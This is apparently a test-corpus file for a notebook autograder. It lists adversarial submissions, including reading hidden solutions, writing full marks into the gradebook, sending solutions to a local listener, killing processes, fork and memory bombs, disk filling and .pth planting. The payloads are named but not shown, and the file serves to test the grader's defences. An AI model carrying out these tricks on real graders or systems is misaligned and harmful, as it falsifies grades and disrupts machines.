    # -- reading secrets from disk
    Entry(
        "atk_read_solutions",
        "read and exec solutions/w1_broadcasting.py",
        "attack",
        attack(READ_SOLUTIONS),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_linked_notebook",
        "submit a symbolic link to the source notebook instead of a notebook",
        "attack",
        linked_notebook,
        all_zero,
        all_cells,
        ("symbolic link",),
    ),
    Entry(
        "atk_linked_file",
        "submit a symbolic link to the solutions as a helper file, and exec it",
        "attack",
        linked_file,
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_read_source",
        "read the source notebook and exec its solution cells",
        "attack",
        attack(READ_SOURCE),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_read_gradebook",
        "read gradebook.db and exec its cells",
        "attack",
        attack(READ_GRADEBOOK),
        _PW,
        wrong_ids,
        _HCF,
    ),
    # -- writing where grades are kept
    Entry(
        "atk_write_gradebook",
        "write gradebook.db (full marks for all), autograded/, own .ipynb",
        "attack",
        attack(WRITE_GRADEBOOK),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_atexit",
        "atexit and SIGTERM handlers write the gradebook at kernel shutdown",
        "attack",
        attack(ATEXIT),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_network",
        "connect to a listener on 127.0.0.1 and send the solutions",
        "attack",
        network_build,
        _PW,
        wrong_ids,
        _HCF,
    ),
    # -- stopping the kernel
    Entry(
        "atk_sys_exit",
        "sys.exit in an answer cell",
        "attack",
        attack(SYS_EXIT),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_os_exit",
        "os._exit(0) in an answer cell",
        "attack",
        attack(OS_EXIT, cell="normalize_rows_code"),
        zero_after(_PW, "normalize_rows_code"),
        wrong_ids,
        _STOPPED,
    ),
    Entry(
        "atk_kill_parent",
        "kill the kernel's parent (and pid 1) with SIGKILL",
        "attack",
        attack(KILL_PARENT, cell="normalize_rows_code"),
        _PW,
        wrong_ids,
        _HCF,
    ),
    # -- resources
    Entry(
        "atk_infinite_loop",
        "infinite loop in an answer cell",
        "attack",
        attack(INFINITE_LOOP),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_sigint_ignored",
        "infinite loop that ignores SIGINT",
        "attack",
        attack(SIGINT_IGNORED, cell="normalize_rows_code"),
        zero_after(_PW, "normalize_rows_code"),
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_huge_output",
        "print without end",
        "attack",
        attack(HUGE_OUTPUT, cell="pairwise_sq_distances_code"),
        _PW,
        wrong_ids,
        _HCF,
    ),
    Entry(
        "atk_memory_bomb",
        "memory bomb (64 MB touched chunks until refused)",
        "attack",
        attack(MEMORY_BOMB),
        _PW,
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
    Entry(
        "atk_fork_bomb",
        "fork bomb (children ignore SIGINT)",
        "attack",
        # In the last answer cell, with that answer wrong too: whether the kernel answers
        # the interrupt or not (it depends on where the KeyboardInterrupt lands), exactly
        # the cells after the bomb score 0.
        attack(
            "def pairwise_sq_distances(A, B):\n    return None\n" + FORK_BOMB,
            cell="pairwise_sq_distances_code",
        ),
        zero_after(_PW, "pairwise_sq_distances_code"),
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
    Entry(
        "atk_disk_fill",
        "fill the disk (working dir, /tmp, home)",
        "attack",
        attack(DISK_FILL),
        _PW,
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
    Entry(
        "atk_pth_site",
        "plant a .pth file in site-packages",
        "attack",
        attack(PTH_SITE),
        _PW,
        wrong_ids,
        _HCF,
        dangerous=True,
    ),
    # -- broken notebooks (from the correct submission unless said otherwise)
    Entry(
        "brk_not_json",
        "not JSON (a merge conflict)",
        "broken",
        not_json,
        all_zero,
        no_cells,
        ("could not be read",),
    ),
    Entry(
        "brk_not_notebook",
        "JSON, but not a notebook",
        "broken",
        json_not_notebook,
        all_zero,
        no_cells,
        ("could not be read",),
    ),
    Entry(
        "brk_json_list",
        "JSON list, not an object",
        "broken",
        json_list,
        all_zero,
        no_cells,
        ("could not be read",),
    ),
    Entry("brk_nbformat_v3", "old nbformat (v3)", "broken", old_nbformat, full_points, no_cells),
    Entry(
        "brk_empty", "empty file", "broken", empty_file, all_zero, no_cells, ("could not be read",)
    ),
    Entry(
        "brk_non_utf8",
        "non-UTF-8 bytes (cp1252)",
        "broken",
        non_utf8,
        all_zero,
        no_cells,
        ("could not be read", "UnicodeDecodeError"),
    ),
    Entry(
        "brk_meta_stripped",
        "grading metadata stripped from every cell",
        "broken",
        metadata_stripped,
        full_points,
        no_cells,
        ("grading metadata was repaired",),
    ),
    Entry(
        "brk_test_meta_stripped",
        "grading metadata stripped from the test cells",
        "broken",
        test_metadata_stripped,
        full_points,
        no_cells,
        ("grading metadata was repaired",),
    ),
    Entry(
        "brk_meta_duplicated",
        "grading metadata duplicated (two cells per grade id)",
        "broken",
        metadata_duplicated,
        zero_cells(full_points, _softmax_cells),
        _softmax_cells,
        ("grading metadata was repaired", "appeared more than once"),
    ),
    Entry(
        "brk_tests_deleted",
        "test cells deleted",
        "broken",
        tests_deleted,
        full_points,
        no_cells,
        ("grading metadata was repaired", "were missing and were put back"),
    ),
    Entry(
        "brk_tests_edited",
        "test cells edited (pass, a fake pass, unlocked)",
        "broken",
        tests_edited,
        _PW,
        wrong_ids,
        _HCF + ("grading metadata was repaired",),
    ),
    Entry(
        "brk_solution_deleted",
        "a solution cell deleted",
        "broken",
        solution_deleted,
        zero_cells(full_points, _softmax_cells),
        _softmax_cells,
        ("NameError", "'softmax_code' are missing"),
    ),
    Entry(
        "brk_renamed",
        "graded function renamed (soft_max)",
        "broken",
        renamed_function,
        zero_cells(full_points, _softmax_cells),
        _softmax_cells,
        ("NameError", "softmax"),
    ),
    Entry(
        "brk_signature",
        "wrong signature (softmax(x, axis))",
        "broken",
        wrong_signature,
        zero_cells(full_points, _softmax_cells),
        _softmax_cells,
        ("TypeError",),
    ),
]


def by_student() -> dict[str, Entry]:
    return {e.student: e for e in ENTRIES}


from tests.corpus import entries_files, entries_isolation, entries_judge  # noqa: E402

ENTRIES += entries_isolation.ENTRIES + entries_judge.ENTRIES + entries_files.ENTRIES
